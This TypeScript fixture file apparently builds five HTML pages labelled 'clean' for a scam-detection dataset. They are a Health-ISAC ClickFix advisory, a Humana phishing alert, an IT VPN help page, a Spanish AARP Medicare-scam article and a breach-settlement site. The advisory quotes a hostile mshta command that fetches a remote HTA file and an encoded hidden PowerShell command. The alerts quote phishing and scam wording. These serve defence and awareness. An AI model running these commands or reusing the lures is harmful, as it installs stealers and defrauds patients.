import { type Entry } from '../entry.js';
import { css, dotIcon, esc, logos, shell } from '../parts/yt-kit.js';

/** Threat advisories, provider bulletins, researcher write-ups and IT help pages that quote commands, drainer code and phishing text; plus a real settlement claim site and install docs that pipe to a shell. */
const isac = shell({
  title: 'TLP:CLEAR Advisory — ClickFix Campaign Impersonating Telehealth Device Checks',
  css: css.article + `table{border-collapse:collapse;width:100%;font-family:Arial;font-size:13px}td,th{border:1px solid #ccc;padding:6px}`,
  body: `<header><b>Health-ISAC</b><span>Threat Bulletin · TLP:CLEAR</span></header>
<article><h1>ClickFix campaign impersonating telehealth device checks</h1><p class="byline">Published November 12, 2025 · Severity: High</p>
<p>Health-ISAC members report a campaign in which patients and staff receive appointment reminders linking to fake "video visit" waiting rooms. The page claims the camera or microphone failed and instructs the user to press <b>Win+R</b>, paste with <b>Ctrl+V</b>, and press <b>Enter</b>. A click on "Run device check" silently places a command on the clipboard.</p>
<h2>Observed clipboard contents</h2>
<pre>${esc('mshta hxxps://televideo-devicecheck[.]com/v/fix.hta # ✅ Telehealth Device Check — Verification ID: 4471-ACX')}</pre>
<pre>${esc('powershell -NoP -W Hidden -EncodedCommand JAB3AD0ATgBlAHcALQBPAGIAagBlAGMAdAAgAE4AZQB0AC4AVwBlAGIAQwBsAGkAZQBuAHQA...')}</pre>
<p>The trailing comment is designed so that only the reassuring text is visible in the Run dialog. Second-stage payloads observed include Lumma Stealer and NetSupport RAT.</p>
<h2>Indicators</h2><table><tr><th>Type</th><th>Value</th></tr><tr><td>Domain</td><td>televideo-devicecheck[.]com</td></tr><tr><td>Domain</td><td>carenow-video-visit[.]com</td></tr><tr><td>Domain</td><td>teams-carecoord[.]com</td></tr></table>
<h2>Recommendations</h2><ul><li>Disable the Run dialog for standard users via GPO where feasible.</li><li>Alert on <code>mshta.exe</code> and <code>powershell.exe -EncodedCommand</code> spawned by <code>explorer.exe</code>.</li><li>Tell patients: a legitimate telehealth service never asks you to paste commands.</li></ul></article>
<footer>Health Information Sharing and Analysis Center · Share with members, partners and the public.</footer>`,
});

const siu = shell({
  title: 'Provider Alert: Phishing Emails Impersonating Availity and EFT Enrollment | Humana Provider News',
  favicon: dotIcon('#78be20'),
  css: css.article,
  body: `<header>${logos.humana}<span>Provider News</span></header>
<article><h1>Alert: phishing emails targeting provider offices</h1><p class="byline">Special Investigations Unit · October 2025</p>
<p>Our SIU has seen an increase in emails sent to billing staff that appear to come from Availity or from Humana's payment team. Examples:</p>
<blockquote>"You have 3 remittance advices pending (ERA/835). Unacknowledged remittances are returned to the payer after 72 hours. Review Remittances."</blockquote>
<blockquote>"Due to our transition to a new payment vendor effective 12/01/2025, all contracted providers must re-enroll in EFT. Submit your new bank account."</blockquote>
<blockquote>"ERA files now use encrypted remittance packages. Install the free Remit Viewer to open them."</blockquote>
<p>None of these are legitimate. Humana does not change EFT enrollment through email links, and Availity does not require any software to view remittances. Always sign in by typing <b>availity.com</b> into your browser.</p>
<aside>If you entered credentials on a suspicious page, reset your Availity password, ask your administrator to review user access, and call our Provider Fraud Hotline at 1-800-614-4126.</aside></article>
<footer>© 2025 Humana Inc.</footer>`,
});

const itKb = shell({
  title: 'KB0012245 — Reset your network connection (VPN troubleshooting) | IT Service Portal',
  css: `body{margin:0;font-family:"Segoe UI",Arial;background:#f4f5f7;color:#172b4d}.hd{background:#0052cc;color:#fff;padding:12px 24px}.w{max-width:820px;margin:24px auto;background:#fff;padding:28px;border-radius:4px}
code,pre{font-family:Consolas,monospace;background:#f4f5f7}pre{padding:10px}.note{background:#deebff;padding:12px;border-radius:3px}`,
  body: `<div class="hd">Cardinal Health Plan · IT Service Portal (internal)</div>
<div class="w"><p style="color:#6b778c">Knowledge Base › Remote Access › KB0012245 · Updated 10/02/2025</p>
<h1>Reset your network connection when GlobalProtect VPN won't connect</h1>
<p>Use these steps on your company laptop if the VPN shows "Gateway not responding" at home.</p>
<ol><li>Press <b>Windows key + R</b> to open the Run box.</li><li>Type <code>cmd</code> and press <b>Enter</b>.</li><li>In the Command Prompt, type (or copy and paste) the following and press Enter after each line:
<pre>ipconfig /release
ipconfig /renew
ipconfig /flushdns</pre></li><li>Restart GlobalProtect from the system tray.</li></ol>
<div class="note"><b>Security reminder:</b> IT will only ever point you to commands in this knowledge base. Never run commands that a website, pop-up, "CAPTCHA" or caller tells you to paste. Report those to the Security Operations Center at soc@cardinalhealthplan.org.</div>
<p>Still stuck? Open a ticket or call the Service Desk at x4357.</p></div>`,
});

const aarpEs = shell({
  title: 'Cinco estafas de Medicare que debe conocer — AARP en Español',
  lang: 'es',
  css: css.article,
  body: `<header><b>AARP en Español</b><span>Salud · Fraude</span></header>
<article><h1>Cinco estafas de Medicare que debe conocer este año</h1><p class="byline">Por Redacción AARP · Actualizado el 3 de noviembre de 2025</p>
<p>Durante el período de inscripción abierta aumentan las llamadas y anuncios engañosos. Estas son las más comunes:</p>
<h2>1. La "nueva tarjeta de plástico"</h2><blockquote>"Su tarjeta de papel vence el 31 de diciembre. Para activar la tarjeta de plástico pague $89 con tarjetas de regalo."</blockquote>
<h2>2. Beneficios "de regalo"</h2><blockquote>"Usted califica para $3,600 adicionales en su cheque del Seguro Social. Llame ahora."</blockquote>
<h2>3. Pruebas genéticas gratis</h2><p>Le piden su número de Medicare a cambio de un hisopo bucal "gratuito".</p>
<h2>4. Reembolsos falsos</h2><p>Le dicen que su aseguradora le debe dinero y le piden instalar un programa en la computadora.</p>
<h2>5. Medicamentos para bajar de peso sin receta</h2><p>Tiendas por WhatsApp que venden "tirzepatida sin receta" y solo aceptan Zelle.</p>
<aside>Llame a la Línea de Ayuda contra el Fraude de AARP: 877-908-3360 (gratis).</aside></article>
<footer>AARP · 601 E Street NW, Washington, DC 20049</footer>`,
});

const settlement = shell({
  title: 'Healthcare Clearinghouse Data Incident Settlement — Official Settlement Website',
  css: css.gov + `.notice{border:1px solid #bbb;background:#fafafa;padding:14px}`,
  body: `<header class="site"><b style="font-size:20px">Official Settlement Website</b><span>Questions? 1-866-459-0211</span></header>
<main><h1>If your information was involved in the 2024 clearinghouse data incident, you may be eligible for a payment from a class action settlement.</h1>
<div class="notice">This is the <b>only</b> official website for this settlement, authorized by the Court. Filing a claim is free. The Settlement Administrator will <b>never</b> ask you to pay a fee, and will never ask for gift cards or your full Social Security number by phone or email.</div>
<h2>File a claim</h2><p>Enter the Class Member ID and PIN from the notice you received by mail or email. Deadline: March 3, 2026.</p>
<form method="post" action="/claim/start"><label class="usa-label">Class Member ID</label><input class="usa-input" name="cmid"><label class="usa-label">PIN</label><input class="usa-input" name="pin">
<button class="usa-button">Start claim</button></form>
<p>Don't have a Class Member ID? <a href="/claim/no-notice">File without a notice</a>.</p>
<h2>Important documents</h2><ul><li><a href="/docs/long-form-notice.pdf">Long Form Notice</a></li><li><a href="/docs/settlement-agreement.pdf">Settlement Agreement</a></li></ul></main>
<footer>Settlement Administrator, c/o Kroll Settlement Administration LLC, P.O. Box 5324, New York, NY 10150-5324</footer>`,
});

export const entries: Entry[] = [
{
  id: 'yt-clean-isac-clickfix-telehealth-bulletin',
  label: 'clean',
  kind: 'security-advisory',
  url: 'https://health-isac.org/threat-bulletins/2025-11-clickfix-telehealth-device-check/',
  body: isac,
},
{
  id: 'yt-clean-humana-siu-provider-phish-alert',
  label: 'clean',
  kind: 'security-advisory',
  url: 'https://provider.humana.com/news/2025/10/phishing-availity-eft-alert',
  body: siu,
},
{
  id: 'yt-clean-it-kb-vpn-run-dialog',
  label: 'clean',
  kind: 'it-help-command-instructions',
  url: 'https://itsupport.cardinalhealthplan.org/kb/KB0012245',
  body: itKb,
},
{
  id: 'yt-clean-aarp-estafas-medicare-es',
  label: 'clean',
  kind: 'fraud-awareness-article',
  url: 'https://www.aarp.org/espanol/dinero/estafas-y-fraudes/info-2025/estafas-medicare-inscripcion.html',
  body: aarpEs,
},
{
  id: 'yt-clean-breach-settlement-official-site',
  label: 'clean',
  kind: 'legit-class-action-settlement',
  url: 'https://www.clearinghousedataincidentsettlement.com/',
  body: settlement,
},
];
